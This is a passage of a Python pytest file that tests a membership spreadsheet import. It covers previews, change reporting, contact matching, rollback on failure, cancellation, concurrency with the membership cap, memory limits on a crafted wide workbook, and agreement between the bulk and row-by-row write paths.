            assert error.template
            return
        if parser == "whole" and result is not None:
            assert 0 <= result <= rows.EMPLOYEES_MAXIMUM
        if parser == "decimal" and result is not None:
            assert result.is_finite() and 0 <= result <= rows.FEE_MAXIMUM
            assert result == result.quantize(Decimal("0.01"))

    check()


def test_a_cell_in_column_xfd_on_every_row_does_not_blow_up_memory(
    db: Database, tmp_path: Path
) -> None:
    import tracemalloc

    path = write_workbook(tmp_path / "breit.xlsx", ["Name", "Status"], [["Platzhalter", "x"]])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>Firma {n}</t></is></c>'
        f'<c r="XFD{n}"><v>1</v></c></row>'
        for n in range(2, 10_022)
    )
    start, end = sheet.index("<sheetData>"), sheet.index("</sheetData>")
    header = '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c>'
    header += '<c r="B1" t="inlineStr"><is><t>Status</t></is></c></row>'
    sheet = sheet[: start + len("<sheetData>")] + header + rows + sheet[end:]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace('ref="A1:B2"', 'ref="A1:XFD10021"').encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert path.stat().st_size < 200_000
    tracemalloc.start()
    try:
        with db.reading() as session:
            preview = preview_import(session, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert any("more than 10000 rows" in p.text() for p in preview.problems)
    assert peak < 150 * 1024 * 1024, peak  # 16,384 cells a row would need gigabytes


def test_in_file_competitor_warnings_are_grouped_and_linear(db: Database, tmp_path: Path) -> None:
    import time

    rows = [
        german_row(f"Werkzeugbau {n} GmbH", WZ="28.41", Produkte=f"Sonderteil {n}")
        for n in range(1_000)
    ]
    path = write_workbook(tmp_path / "tausend.xlsx", GERMAN, rows)
    with db.transaction() as session:
        set_cap(session, office_user(session), 2_000)
    started = time.perf_counter()
    with db.reading() as session:
        preview = preview_import(session, path)
    elapsed = time.perf_counter() - started
    assert preview.problems == []
    conflicts = [w for w in preview.warnings if w.startswith("Possible competitors")]
    assert len(conflicts) == 1, conflicts[:5]  # one warning for the class, not 499,500 pairs
    assert "1000 organisations sell in NACE class 28.41" in conflicts[0]
    assert "and 992 more" in conflicts[0]
    assert elapsed < 60  # was 97 s for the pairwise check on a quiet machine


# --- issue 6: every change shown, unchanged rows, contacts ----------------------------------


def test_preview_shows_every_change_field_by_field(db: Database, tmp_path: Path) -> None:
    with db.transaction() as session:
        user = office_user(session)
        organisation = create_organisation(
            session,
            user,
            OrganisationInput(name="Hellweg WZM GmbH", vat_id="DE123456788", city="Unna"),
            OrganisationKind.MEMBER,
            dt.date(2015, 1, 12),
        )
        set_fee(session, user, organisation.id, dt.date(2015, 1, 12), Decimal("800"))
    headers = ["Name", "VAT ID", "City", "Status", "Admission date", "Application date"]
    headers += ["Annual fee"]
    path = write_workbook(
        tmp_path / "rename.xlsx",
        headers,
        [
            [
                "Hellweg Werkzeugmaschinen GmbH",
                "DE 123 456 788",
                "Kamen",
                "applicant",
                None,
                "12.01.2015",
                800,
            ]
        ],
    )
    with db.reading() as session:
        preview = preview_import(session, path, language="en")
    (row,) = preview.rows
    assert row.action == "update"
    assert [str(change) for change in row.changes] == [
        "Name: Hellweg WZM GmbH → Hellweg Werkzeugmaschinen GmbH",
        "City: Unna → Kamen",
    ]
    assert not preview.nothing_to_do


def test_contacts_sheet_matches_organisations_and_reports_unknown_ones(
    db: Database, tmp_path: Path
) -> None:
    with db.transaction() as session:
        member(session, "Hellweg Werkzeugmaschinen GmbH", ["28.41"])
    path = write_workbook(
        tmp_path / "kontakte.xlsx",
        ["Firma", "Vorname", "Nachname", "Funktion", "E-Mail", "Telefon", "Fachgebiete"],
        [
            [
                "Hellweg Werkzeugmaschinen GmbH",
                "Anna",
                "Berg",
                "Einkauf",
                "a.berg@hellweg.de",
                "02303 123456",
                "Strom, Gas",
            ],
            ["Niemand GmbH", "Bernd", "Klein", "", "", "", ""],
        ],
        title="Ansprechpartner",
    )
    with db.reading() as session:
        preview = preview_import(session, path, language="de")
    assert [(p.sheet, p.row, p.column) for p in preview.problems] == [
        ("Ansprechpartner", 3, "Firma")
    ]
    assert "Niemand GmbH" in preview.problems[0].text()
    good = write_workbook(
        tmp_path / "gut.xlsx",
        ["Firma", "Vorname", "Nachname", "Funktion", "E-Mail", "Telefon", "Fachgebiete"],
        [
            [
                "Hellweg Werkzeugmaschinen GmbH",
                "Anna",
                "Berg",
                "Einkauf",
                "a.berg@hellweg.de",
                "02303 123456",
                "Strom, Gas",
            ]
        ],
        title="Ansprechpartner",
    )
    with db.transaction() as session:
        imported = import_members(session, office_user(session), good)
    assert [(row.kind, row.action) for row in imported.rows] == [("contact", "new")]
    again = write_workbook(
        tmp_path / "wieder.xlsx",
        ["Firma", "Vorname", "Nachname", "Funktion"],
        [["Hellweg Werkzeugmaschinen GmbH", "Anna", "Berg", "Geschäftsführung"]],
        title="Ansprechpartner",
    )
    with db.reading() as session:
        preview = preview_import(session, again, language="de")
    (row,) = preview.rows
    assert row.action == "update"
    assert [str(change) for change in row.changes] == ["Funktion: Einkauf → Geschäftsführung"]


# --- issue 7: the write phase, cancelling, a concurrent admission -----------------------------


def test_write_phase_failing_after_the_preview_passed_writes_nothing(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_workbook(
        tmp_path / "zwei.xlsx",
        GERMAN,
        [german_row("Erste GmbH"), german_row("Zweite GmbH", WZ="25.62")],
    )
    with db.reading() as session:
        plan = member_import.check_import(session, path)
    assert plan.preview.problems == []
    calls: list[int] = []
    real_record_many = audit.record_many

    def failing_record_many(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        # the organisations, memberships, fees and sales profiles are inserted by now
        raise RuntimeError("disk full")

    monkeypatch.setattr(audit, "record_many", failing_record_many)
    before, audit_before = counts(db), audit_count(db)
    with pytest.raises(RuntimeError, match="disk full"):
        member_import.run_import(db, office_user, path, plan=plan)
    assert len(calls) == 1
    assert counts(db) == before
    assert audit_count(db) == audit_before
    monkeypatch.setattr(audit, "record_many", real_record_many)

    # the same on the path row by row: the second row's fee fails after the first row is written
    real_set_fee = member_import.set_fee
    fees: list[int] = []

    def failing_set_fee(*args: Any, **kwargs: Any) -> Any:
        fees.append(1)
        if len(fees) == 2:
            raise RuntimeError("disk full")
        return real_set_fee(*args, **kwargs)

    monkeypatch.setattr(member_import, "set_fee", failing_set_fee)
    with pytest.raises(RuntimeError, match="disk full"), db.transaction() as session:
        member_import.write_import(session, office_user(session), plan, bulk=False)
    assert len(fees) == 2
    assert counts(db) == before
    assert audit_count(db) == audit_before


def test_cancelled_import_writes_nothing(db: Database, tmp_path: Path) -> None:
    path = write_workbook(
        tmp_path / "abbruch.xlsx", GERMAN, [german_row(f"Firma {n} GmbH") for n in range(60)]
    )
    with db.transaction() as session:
        set_cap(session, office_user(session), 200)
    with db.reading() as session:
        plan = member_import.check_import(session, path)
    before = counts(db)
    asked: list[int] = []

    def cancelled() -> bool:
        asked.append(1)
        return len(asked) > 1  # after the first rows are written

    with pytest.raises(member_import.ImportCancelled):
        member_import.run_import(db, office_user, path, plan=plan, cancelled=cancelled)
    assert counts(db) == before


def test_data_changed_since_the_preview_is_refused(db: Database, tmp_path: Path) -> None:
    with db.transaction() as session:
        organisation = member(session, "Hellweg Werkzeugmaschinen GmbH", ["28.41"])
        organisation_id = organisation.id
    path = write_workbook(
        tmp_path / "alt.xlsx", ["Name", "City"], [["Hellweg Werkzeugmaschinen GmbH", "Kamen"]]
    )
    with db.reading() as session:
        plan = member_import.check_import(session, path)
    assert [change.after for change in plan.preview.rows[0].changes] == ["Kamen"]
    with db.transaction() as session:  # another PC edits the city meanwhile
        found = session.get(Organisation, organisation_id)
        assert found is not None
        found.city = "Hamm"
    with pytest.raises(ImportRejected, match="changed since the preview"):
        member_import.run_import(db, office_user, path, plan=plan)
    with db.reading() as session:
        found = session.get(Organisation, organisation_id)
        assert found is not None and found.city == "Hamm"


def test_import_beside_an_admission_never_exceeds_the_cap(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The import's write phase holds the cap row: an admission at that moment must wait.

    The import pauses inside its write transaction (after its re-check) until
    the admission on another PC has finished or 3 s have passed. Without the
    cap-row lock the admission would take the last seat in that window and
    the import would then add one member too many.
    """
    import threading

    from membership_builders import applicant

    from niro_desk.membership.admission import admit

    with db.transaction() as session:
        user = office_user(session)
        set_cap(session, user, 3)
        member(session, "Erstes Mitglied GmbH", ["22.29"])
        member(session, "Zweites Mitglied GmbH", ["24.33"])
        candidate = applicant(session, "Bewerber GmbH", ["25.11"]).id
    path = write_workbook(tmp_path / "drittes.xlsx", GERMAN, [german_row("Importiert GmbH")])
    with db.reading() as session:
        plan = member_import.check_import(session, path)
    assert plan.preview.problems == []

    in_write_phase = threading.Event()
    admission_done = threading.Event()
    real_evaluate = member_import.evaluate

    def evaluate_then_pause(*args: Any, **kwargs: Any) -> Any:
        result = real_evaluate(*args, **kwargs)
        in_write_phase.set()
        admission_done.wait(timeout=3)
        return result

    monkeypatch.setattr(member_import, "evaluate", evaluate_then_pause)
    outcomes: dict[str, str] = {}
    errors: list[BaseException] = []

    def import_pc() -> None:
        pc = open_database(db.url)
        try:
            member_import.run_import(pc, office_user, path, plan=plan)
            outcomes["import"] = "imported"
        except ImportRejected:
            outcomes["import"] = "refused"
        except BaseException as error:
            errors.append(error)
        finally:
            pc.dispose()

    def admission_pc() -> None:
        pc = open_database(db.url)
        try:
            assert in_write_phase.wait(timeout=30)
            with pc.transaction() as session:
                result = admit(session, office_user(session), candidate, TODAY)
            outcomes["admission"] = result.outcome.value
        except BaseException as error:
            errors.append(error)
        finally:
            admission_done.set()
            pc.dispose()

    threads = [threading.Thread(target=import_pc), threading.Thread(target=admission_pc)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=90)
    assert not errors, errors
    assert outcomes == {"import": "imported", "admission": "waiting"}
    with db.reading() as session:
        members = session.scalar(
            select(func.count())
            .select_from(Organisation)
            .where(Organisation.membership_status == MembershipStatus.MEMBER)
        )
    assert members == 3


def test_names_whose_key_outgrows_the_column_are_problems(db: Database, tmp_path: Path) -> None:
    """Folding writes "ä" as "ae": a 150-character product has a 300-character key."""
    path = write_workbook(
        tmp_path / "umlaute.xlsx",
        GERMAN,
        [german_row("Umlaut GmbH", Produkte="Ä" * 150)],
    )
    with db.reading() as session:
        preview = preview_import(session, path)
    assert [(p.sheet, p.row, p.column) for p in preview.problems] == [("Mitglieder", 2, "Produkte")]
    contacts = write_workbook(
        tmp_path / "fachgebiete.xlsx",
        ["Firma", "Nachname", "Fachgebiete"],
        [["Umlaut GmbH", "Groß", "ß" * 60]],
        title="Ansprechpartner",
    )
    with db.transaction() as session:
        member(session, "Umlaut GmbH", ["28.41"])
    with db.reading() as session:
        preview = preview_import(session, contacts)
    assert [(p.sheet, p.row, p.column) for p in preview.problems] == [
        ("Ansprechpartner", 2, "Fachgebiete")
    ]


def test_checking_holds_no_write_lock(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While an import checks its rows, another PC can still save (SQLite's one write lock)."""
    path = write_workbook(tmp_path / "lock.xlsx", GERMAN, [german_row("Prüfung GmbH")])
    real_warnings = member_import.competitor_warnings
    saved: list[int] = []

    def save_on_another_pc(*args: Any, **kwargs: Any) -> None:
        other = open_database(db.url)
        try:
            with other.transaction() as session:
                set_cap(session, office_user(session), 99)
            saved.append(1)
        finally:
            other.dispose()
        real_warnings(*args, **kwargs)

    monkeypatch.setattr(member_import, "competitor_warnings", save_on_another_pc)
    preview = member_import.run_import(db, office_user, path)
    assert saved == [1]
    assert preview.new_count == 1


def test_import_reads_nace_classes_as_people_type_them() -> None:
    from niro_desk.membership.member_import_rows import parse_codes

    assert parse_codes("25.62, 2562; C 25.62 25.62.0 c28.11") == ["25.62", "28.11"]
    assert parse_codes(25.6) == ["25.60"]
    assert parse_codes("A 25.62") == ["A25.62"]  # wrong section letter: reported as typed


# --- the bulk write path ---------------------------------------------------------------------


def _state(db: Database, audit_from: int) -> dict[str, Any]:
    """Everything an import writes, keyed by organisation name (ids and timestamps differ)."""
    from niro_desk.models import (
        Contact,
        Material,
        Membership,
        MembershipFee,
        OrganisationSearch,
        ProductMarket,
    )
    from niro_desk.models.sales_profile import organisation_sales_code

    def columns(model: Any, *skip: str) -> list[Any]:
        return [c for c in model.__table__.columns if c.key not in skip]

    with db.reading() as session:
        names = dict(session.execute(select(Organisation.id, Organisation.name)).all())
        memberships = dict(session.execute(select(Membership.id, Membership.organisation_id)).all())
        state: dict[str, Any] = {}
        stamps = ("id", "created_at", "updated_at")
        state["organisation"] = sorted(
            tuple(row) for row in session.execute(select(*columns(Organisation, *stamps)))
        )
        state["membership"] = sorted(
            (names[row[0]], *row[1:])
            for row in session.execute(
                select(Membership.organisation_id, *columns(Membership, "id", "organisation_id"))
            )
        )
        state["fee"] = sorted(
            (names[memberships[row[0]]], *row[1:])
            for row in session.execute(
                select(MembershipFee.membership_id, *columns(MembershipFee, "id", "membership_id"))
            )
        )
        state["codes"] = sorted(
            (names[key], code) for key, code in session.execute(select(organisation_sales_code))
        )
        for model in (ProductMarket, Material):
            state[model.__tablename__] = [
                (names[row[0]], *row[1:])
                for row in session.execute(
                    select(model.organisation_id, model.name, model.key).order_by(model.id)
                )
            ]
        state["search"] = sorted(
            (names[row[0]], *row[1:])
            for row in session.execute(select(*OrganisationSearch.__table__.columns))
        )
        entries = session.execute(
            select(
                AuditEntry.user_id,
                AuditEntry.action,
                AuditEntry.entity_type,
                AuditEntry.entity_id,
                AuditEntry.summary,
                AuditEntry.before,
                AuditEntry.after,
                AuditEntry.before.is_(None),  # SQL NULL, not JSON null
                AuditEntry.after.is_(None),
            )
            .where(AuditEntry.id > audit_from)
            .order_by(AuditEntry.id)
        ).all()

        contacts = {
            key: (names[organisation], last, first)
            for key, organisation, last, first in session.execute(
                select(Contact.id, Contact.organisation_id, Contact.last_name, Contact.first_name)
            )
        }

    def entity(kind: str, key: Any) -> Any:
        return names[key] if kind == "organisation" else contacts.get(key, key)

    def named(kind: str, data: Any) -> Any:
        if not isinstance(data, dict):
            return data
        data = dict(data)
        if "id" in data:
            data["id"] = entity(kind, data["id"])
        if "organisation_id" in data:
            data["organisation_id"] = names[data["organisation_id"]]
        return data

    # per record in the order written (the bulk path writes new ones before updates)
    state["audit"] = sorted(
        (
            str(entity(row[2], row[3])),
            index,
            *row[:3],
            row[4],
            named(row[2], row[5]),
            named(row[2], row[6]),
            *row[7:],
        )
        for index, row in enumerate(entries)
    )
    state["audit"] = [entry[:1] + entry[2:] for entry in state["audit"]]
    return state


def _wipe(db: Database, audit_from: int) -> None:
    """Remove what an import wrote (past the ORM: the audit log refuses deletes there)."""
    from sqlalchemy import delete

    from niro_desk.models import (
        Contact,
        Material,
        Membership,
        MembershipFee,
        OrganisationSearch,
        ProductMarket,
    )
    from niro_desk.models.contact import contact_expertise
    from niro_desk.models.sales_profile import organisation_sales_code

    with db.transaction() as session:
        for table in (
            contact_expertise,
            Contact.__table__,
            organisation_sales_code,
            ProductMarket.__table__,
            Material.__table__,
            MembershipFee.__table__,
            Membership.__table__,
            OrganisationSearch.__table__,
            Organisation.__table__,
        ):
            session.execute(delete(table))
        session.execute(delete(AuditEntry.__table__).where(AuditEntry.id > audit_from))


def _edge_rows(path: Path) -> Path:
    """Rows the demo export lacks: applicants, former members, no fee, no profile, founders."""
    return write_workbook(
        path,
        GERMAN,
        [
            german_row("Bewerber GmbH", STATUS="Bewerber", Aufnahmedatum=""),
            german_row("Gründer AG", "DE136695976", Gruendungsmitglied="ja"),
            german_row("Ohne Beitrag KG", Jahresbeitrag="", WZ="", Produkte="", Materialien=""),
            german_row("Ehemals GmbH", STATUS="ehemalig", Gruendungsmitglied="x"),
            german_row("Wartet GmbH", STATUS="Warteliste", Aufnahmedatum="", WZ="2562 28.41"),
            german_row("  Leerzeichen GmbH ", Produkte="Pumpen; pumpen; Ventile", PLZ=" 59423"),
        ],
        title="Neu",
    )


def test_bulk_import_writes_what_the_services_write_row_by_row(
    demo_db: Database, db: Database, tmp_path: Path
) -> None:
    """The batched path for new organisations leaves the same database and audit log."""
    from niro_desk.membership import directory_search

    exported = tmp_path / "demo.xlsx"
    with demo_db.reading() as session:
        export_members(session, exported, "de")
    files = [exported, _edge_rows(tmp_path / "neu.xlsx")]
    with db.transaction() as session:
        set_cap(session, office_user(session), 1000)
    with db.reading() as session:
        audit_from = session.scalar(select(func.max(AuditEntry.id))) or 0
    states = []
    for bulk in (False, True):
        for path in files:
            with db.reading() as session:
                plan = member_import.check_import(session, path, language="de")
            assert plan.preview.problems == [], plan.preview.problems[:3]
            assert plan.preview.new_count > 0
            with db.transaction() as session:
                member_import.write_import(session, office_user(session), plan, bulk=bulk)
        states.append(_state(db, audit_from))
        with db.reading() as session:
            assert directory_search.stale_rows(session.connection()) == []
        _wipe(db, audit_from)
    row_by_row, batched = states
    assert row_by_row["organisation"], "nothing imported"
    assert len(row_by_row["audit"]) > 3 * len(row_by_row["organisation"])
    for table in row_by_row:
        assert batched[table] == row_by_row[table], table
